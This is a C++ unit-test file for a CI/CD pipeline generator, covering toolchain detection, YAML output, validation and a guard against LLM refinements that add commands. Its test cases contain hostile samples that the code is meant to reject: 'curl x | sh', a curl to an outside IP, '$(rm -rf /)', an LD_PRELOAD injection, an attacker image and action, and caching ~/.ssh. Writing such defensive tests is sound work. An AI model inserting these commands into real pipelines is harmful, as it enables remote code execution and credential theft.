#include "engines/cicd/pipeline.h"

#include <gtest/gtest.h>

#include <filesystem>
#include <fstream>
#include <functional>
#include <sstream>

namespace dai::cicd {
namespace {

namespace fs = std::filesystem;

Step S(std::string name, std::vector<std::string> argv) {
  Step s;
  s.name = std::move(name);
  s.argv = std::move(argv);
  return s;
}

Job J(std::string id, std::vector<std::string> needs, std::vector<Step> steps) {
  Job j;
  j.id = std::move(id);
  j.needs = std::move(needs);
  j.steps = std::move(steps);
  return j;
}

RepoSnapshot Repo(std::vector<std::string> files,
                  std::map<std::string, std::string> contents = {}) {
  return {std::move(files), std::move(contents)};
}

const Toolchain* Find(const RepoProfile& p, const std::string& kind, const std::string& dir = "") {
  for (const auto& t : p.toolchains)
    if (t.kind == kind && t.dir == dir) return &t;
  return nullptr;
}

TEST(Detect, CMakeWithCTest) {
  auto p = DetectRepository(
      Repo({"CMakeLists.txt", "src/a.cc", "src/CMakeLists.txt", "tests/t.cc"},
           {{"CMakeLists.txt", "project(x)\nenable_testing()\nadd_test(NAME t COMMAND t)\n"}}));
  const Toolchain* t = Find(p, "cmake");
  ASSERT_NE(t, nullptr);
  EXPECT_EQ(p.toolchains.size(), 1u) << "nested CMakeLists.txt is part of the root project";
  ASSERT_EQ(t->test.size(), 1u);
  EXPECT_EQ(t->test[0][0], "ctest");
  EXPECT_EQ(p.languages, std::vector<std::string>{"c++"});
}

TEST(Detect, CMakeWithoutTestsHasNoTestStep) {
  auto p = DetectRepository(Repo({"CMakeLists.txt", "main.c"},
                                 {{"CMakeLists.txt", "project(x C)\nadd_executable(x main.c)\n"}}));
  ASSERT_NE(Find(p, "cmake"), nullptr);
  EXPECT_TRUE(Find(p, "cmake")->test.empty());
}

TEST(Detect, NpmScriptsAndLockfiles) {
  auto p = DetectRepository(
      Repo({"web/package.json", "web/package-lock.json", "web/src/a.ts", "api/package.json",
            "api/yarn.lock", "node_modules/x/package.json"},
           {{"web/package.json", R"({"scripts":{"build":"vite build","test":"vitest run"}})"},
            {"api/package.json",
             R"({"scripts":{"test":"echo \"Error: no test specified\" && exit 1"}})"}}));
  const Toolchain* web = Find(p, "npm", "web");
  ASSERT_NE(web, nullptr);
  EXPECT_EQ(web->setup[0], (std::vector<std::string>{"npm", "ci"}));
  EXPECT_EQ(web->build[0], (std::vector<std::string>{"npm", "run", "build"}));
  EXPECT_EQ(web->test[0], (std::vector<std::string>{"npm", "test"}));
  const Toolchain* api = Find(p, "yarn", "api");
  ASSERT_NE(api, nullptr);
  EXPECT_TRUE(api->test.empty()) << "npm's placeholder test script is not a test";
  EXPECT_EQ(p.toolchains.size(), 2u) << "node_modules is ignored";
}

TEST(Detect, PythonUnittestVsPytest) {
  auto a = DetectRepository(Repo({"app.py", "test_app.py"}));
  EXPECT_EQ(a.toolchains.size(), 0u) << "no manifest: no python project root";
  auto b = DetectRepository(Repo({"requirements.txt", "app.py", "tests/test_app.py"},
                                 {{"requirements.txt", "requests\n"}}));
  const Toolchain* t = Find(b, "pip");
  ASSERT_NE(t, nullptr);
  ASSERT_EQ(t->test.size(), 1u);
  EXPECT_EQ(t->test[0][2], "unittest");
  auto c = DetectRepository(
      Repo({"pyproject.toml", "poetry.lock", "x/test_a.py"},
           {{"pyproject.toml", "[tool.poetry]\n[tool.poetry.dev-dependencies]\npytest = '*'\n"}}));
  const Toolchain* pc = Find(c, "poetry");
  ASSERT_NE(pc, nullptr);
  EXPECT_EQ(pc->test[0], (std::vector<std::string>{"poetry", "run", "python", "-m", "pytest"}));
}

TEST(Detect, GoCargoMavenGradleDockerHelmTerraformMake) {
  auto p = DetectRepository(
      Repo({"go.mod", "main.go", "rs/Cargo.toml", "rs/crates/a/Cargo.toml", "java/pom.xml",
            "kt/build.gradle.kts", "kt/gradlew", "Dockerfile", "charts/app/Chart.yaml",
            "infra/main.tf", "infra/modules/net/main.tf", "tools/Makefile"},
           {{"tools/Makefile", "all:\n\tcc x.c\ncheck:\n\t./x\n"}}));
  EXPECT_NE(Find(p, "go"), nullptr);
  ASSERT_NE(Find(p, "cargo", "rs"), nullptr);
  EXPECT_EQ(Find(p, "cargo", "rs/crates/a"), nullptr)
      << "workspace members are part of the workspace";
  EXPECT_NE(Find(p, "maven", "java"), nullptr);
  ASSERT_NE(Find(p, "gradle", "kt"), nullptr);
  EXPECT_EQ(Find(p, "gradle", "kt")->test[0][0], "./gradlew");
  ASSERT_NE(Find(p, "docker"), nullptr);
  EXPECT_TRUE(Find(p, "docker")->deploy);
  EXPECT_NE(Find(p, "helm", "charts/app"), nullptr);
  EXPECT_NE(Find(p, "terraform", "infra"), nullptr);
  EXPECT_EQ(Find(p, "terraform", "infra/modules/net"), nullptr);
  ASSERT_NE(Find(p, "make", "tools"), nullptr);
  EXPECT_EQ(Find(p, "make", "tools")->test[0], (std::vector<std::string>{"make", "check"}));
  // Deploy targets sort last.
  EXPECT_TRUE(p.toolchains.back().deploy);
}

TEST(Generate, JobsNeedsAndValidation) {
  auto profile =
      DetectRepository(Repo({"package.json", "package-lock.json", "Dockerfile"},
                            {{"package.json", R"({"scripts":{"test":"node --test"}})"}}));
  auto p = GeneratePipeline(profile, "ci");
  ASSERT_TRUE(p.ok()) << p.status().ToString();
  ASSERT_EQ(p->jobs.size(), 2u);
  EXPECT_EQ(p->jobs[0].id, "npm");
  EXPECT_EQ(p->jobs[1].id, "docker");
  EXPECT_EQ(p->jobs[1].needs, std::vector<std::string>{"npm"});
  EXPECT_FALSE(GeneratePipeline(DetectRepository(Repo({"README.md"})), "x").ok());
}

TEST(Generate, GithubYamlRoundTripsThroughTheParser) {
  auto profile = DetectRepository(
      Repo({"CMakeLists.txt", "a.cc", "web/package.json", "web/package-lock.json"},
           {{"CMakeLists.txt", "enable_testing()"},
            {"web/package.json", R"({"scripts":{"build":"tsc","test":"vitest"}})"}}));
  auto p = GeneratePipeline(profile, "ci");
  ASSERT_TRUE(p.ok());
  std::string yaml = ToGithubActionsYaml(*p);
  EXPECT_NE(yaml.find("actions/checkout@v4"), std::string::npos);
  EXPECT_NE(yaml.find("actions/cache@v4"), std::string::npos);
  auto back = ParseGithubWorkflow(yaml);
  ASSERT_TRUE(back.ok()) << back.status().ToString() << "\n" << yaml;
  ASSERT_EQ(back->jobs.size(), p->jobs.size());
  for (size_t i = 0; i < p->jobs.size(); ++i) {
    EXPECT_EQ(back->jobs[i].id, p->jobs[i].id);
    // Our steps come back with the same argv after checkout/setup/cache actions.
    std::vector<std::vector<std::string>> argvs;
    for (const auto& s : back->jobs[i].steps)
      if (s.uses.empty()) argvs.push_back(s.argv);
    ASSERT_EQ(argvs.size(), p->jobs[i].steps.size());
    for (size_t k = 0; k < argvs.size(); ++k) EXPECT_EQ(argvs[k], p->jobs[i].steps[k].argv);
  }
  std::string gitlab = ToGitlabCiYaml(*p);
  EXPECT_NE(gitlab.find("stages:"), std::string::npos);
  EXPECT_NE(gitlab.find("cd web && npm ci"), std::string::npos);
}

TEST(Pipeline, CyclesUnknownNeedsAndEmptyCommandsAreNamed) {
  Pipeline p;
  p.jobs = {J("a", {"b"}, {S("s", {"true"})}), J("b", {"a"}, {S("s", {"true"})})};
  auto st = ValidatePipeline(p);
  EXPECT_FALSE(st.ok());
  EXPECT_NE(st.message().find("cycle"), std::string::npos) << st.message();
  p.jobs[1].needs = {"zzz"};
  EXPECT_NE(ValidatePipeline(p).message().find("zzz"), std::string::npos);
  p.jobs[1].needs = {};
  p.jobs[0].steps[0].argv = {};
  EXPECT_NE(ValidatePipeline(p).message().find("no command"), std::string::npos);
}

TEST(Pipeline, ShellQuoteNeutralizesMetacharacters) {
  EXPECT_EQ(ShellQuote({"echo", "a b", "$(rm -rf /)", "it's"}),
            "echo 'a b' '$(rm -rf /)' 'it'\\''s'");
  EXPECT_EQ(ShellQuote({"npm", "run", "build"}), "npm run build");
}

TEST(Pipeline, JsonRoundTripAndBadDefinitions) {
  auto profile = DetectRepository(Repo({"go.mod"}));
  auto p = GeneratePipeline(profile, "g");
  ASSERT_TRUE(p.ok());
  auto back = PipelineFromJson(PipelineToJson(*p));
  ASSERT_TRUE(back.ok()) << back.status().ToString();
  EXPECT_EQ(PipelineToJson(*back), PipelineToJson(*p));
  auto bad = PipelineFromJson(ParseJson(R"({"jobs":[{"id":"a","steps":[{"argv":[1]}]}]})").value());
  EXPECT_NE(bad.status().message().find("definition.jobs[0].steps[0].argv"), std::string::npos);
}

// An LLM's refinement may rearrange what the generated pipeline does, never add to it.
TEST(Pipeline, RefinementsMayRearrangeButNeverAddCommands) {
  Pipeline gen;
  gen.name = "ci";
  gen.jobs = {J("build", {}, {S("deps", {"npm", "ci"}), S("build", {"npm", "run", "build"})}),
              J("test", {"build"}, {S("deps", {"npm", "ci"}), S("test", {"npm", "test"})})};
  ASSERT_TRUE(ValidatePipeline(gen).ok());
  // Parallel jobs, a step dropped, renamed, a timeout changed: accepted.
  Pipeline ok = gen;
  ok.name = "refined";
  ok.jobs[1].needs.clear();
  ok.jobs[0].steps.pop_back();
  ok.jobs[0].name = "install";
  ok.jobs[1].timeout_minutes = 10;
  EXPECT_TRUE(CheckRefinement(gen, ok).ok()) << CheckRefinement(gen, ok).ToString();
  struct Case {
    std::function<void(Pipeline&)> change;
    const char* message;
  } cases[] = {
      {[](Pipeline& p) {
         p.jobs[0].steps.push_back(S("x", {"curl", "http://203.0.113.9"}));
       },
       "job build step 3 (x): the command curl http://203.0.113.9 is not one"},
      {[](Pipeline& p) { p.jobs[0].steps[0].argv.push_back("--ignore-scripts=false"); },
       "job build step 1 (deps): the command"},
      {[](Pipeline& p) { p.jobs[1].steps[0].run = "curl x | sh"; }, "a script (run) is new"},
      {[](Pipeline& p) { p.jobs[1].steps[0].env["LD_PRELOAD"] = "/tmp/x.so"; },
       "the environment variable LD_PRELOAD is new"},
      {[](Pipeline& p) { p.jobs[0].image = "attacker/image"; }, "image \"attacker/image\" is new"},
      {[](Pipeline& p) { p.jobs[0].steps[0].uses = "evil/action@v1"; },
       "the action evil/action@v1 is new"},
      {[](Pipeline& p) {
         p.jobs[0].caches.push_back({"~/.ssh", "x"});
       },
       "cache ~/.ssh is new"},
      {[](Pipeline& p) { p.jobs[1].needs = {"nope"}; }, "the suggestion"},
  };
  for (const auto& c : cases) {
    Pipeline bad = gen;
    c.change(bad);
    const Status st = CheckRefinement(gen, bad);
    EXPECT_EQ(st.code(), StatusCode::kInvalidArgument) << c.message;
    EXPECT_NE(st.message().find(c.message), std::string::npos) << st.message();
  }
}

TEST(Workflow, BadYamlAndStructure) {
  EXPECT_EQ(ParseGithubWorkflow("jobs: [").status().code(), StatusCode::kParseError);
  EXPECT_FALSE(ParseGithubWorkflow("name: x").ok());
  auto st = ParseGithubWorkflow("jobs:\n  a:\n    runs-on: x\n    steps:\n      - name: nothing\n");
  EXPECT_NE(st.status().message().find("neither 'run' nor 'uses'"), std::string::npos);
  auto cyc = ParseGithubWorkflow(
      "jobs:\n  a:\n    needs: b\n    steps: [{run: x}]\n  b:\n    needs: [a]\n    steps: [{run: "
      "y}]\n");
  EXPECT_NE(cyc.status().message().find("cycle"), std::string::npos);
  auto ok = ParseGithubWorkflow(
      "jobs:\n  a:\n    steps:\n      - run: make test\n      - run: echo $HOME | tee x\n");
  ASSERT_TRUE(ok.ok());
  EXPECT_EQ(ok->jobs[0].steps[0].argv, (std::vector<std::string>{"make", "test"}));
  EXPECT_TRUE(ok->jobs[0].steps[1].argv.empty()) << "shell syntax is never split into argv";
}

fs::path SharedData() { return fs::path(DAI_SHARED_DATA); }

std::string ReadFile(const fs::path& p) {
  std::ifstream in(p, std::ios::binary);
  std::stringstream ss;
  ss << in.rdbuf();
  return ss.str();
}

TEST(Workflow, SchemaStoreValidWorkflowsParse) {
  fs::path dir = SharedData() / "ci/github-workflows/valid";
  if (!fs::exists(dir)) GTEST_SKIP() << "shared data absent: " << dir;
  int parsed = 0;
  for (const auto& e : fs::directory_iterator(dir)) {
    auto p = ParseGithubWorkflow(ReadFile(e.path()));
    EXPECT_TRUE(p.ok()) << e.path().filename() << ": " << p.status().ToString();
    parsed += p.ok();
  }
  EXPECT_GT(parsed, 10);
}

TEST(Workflow, InvalidStepsAreRefused) {
  fs::path dir = SharedData() / "ci/github-workflows/invalid";
  if (!fs::exists(dir)) GTEST_SKIP() << "shared data absent: " << dir;
  for (const char* name :
       {"all-steps-must-contain-run-or-uses.yaml", "steps-must-contain-run-or-uses.yaml",
        "empty_json_must_always_fail.yaml"}) {
    auto p = ParseGithubWorkflow(ReadFile(dir / name));
    EXPECT_FALSE(p.ok()) << name;
  }
}

// After a crash the run knows how many step records it has; the runner runs one step at a
// time in job topological order, so the next one in that order is the one that was running.
TEST(Pipeline, StepAfterFollowsTheRunnersOrder) {
  Pipeline p;
  p.name = "p";
  // "deploy" is declared first but needs "build": the runner runs build's steps first.
  p.jobs = {J("deploy", {"build"}, {S("ship", {"ship"})}),
            J("build", {}, {S("", {"make", "all files"}), S("test", {"make", "test"})})};
  auto first = StepAfter(p, 0);
  ASSERT_TRUE(first.ok()) << first.status().ToString();
  ASSERT_TRUE(first->has_value());
  EXPECT_EQ((*first)->job, "build");
  EXPECT_EQ((*first)->step, "make 'all files'");  // unnamed: its quoted argv, as recorded
  auto second = StepAfter(p, 1);
  ASSERT_TRUE(second.ok() && second->has_value());
  EXPECT_EQ((*second)->step, "test");
  auto third = StepAfter(p, 2);
  ASSERT_TRUE(third.ok() && third->has_value());
  EXPECT_EQ((*third)->job, "deploy");
  EXPECT_EQ((*third)->step, "ship");
  auto none = StepAfter(p, 3);
  ASSERT_TRUE(none.ok());
  EXPECT_FALSE(none->has_value());
  p.jobs[1].needs = {"deploy"};
  EXPECT_EQ(StepAfter(p, 0).status().code(), StatusCode::kInvalidArgument);
}

}  // namespace
}  // namespace dai::cicd
